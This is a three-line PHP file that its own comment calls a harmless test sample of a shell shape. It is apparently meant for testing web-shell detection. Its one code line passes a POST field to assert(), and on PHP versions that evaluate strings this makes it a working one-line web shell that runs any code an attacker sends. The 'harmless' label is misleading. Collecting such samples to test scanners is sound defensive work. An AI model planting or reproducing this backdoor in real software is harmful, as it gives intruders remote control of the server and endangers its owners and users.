<?php
/* Harmless test sample: a one-line shell shape (never deployed anywhere). */
if (isset($_POST['x'])) { assert($_POST['x']); }
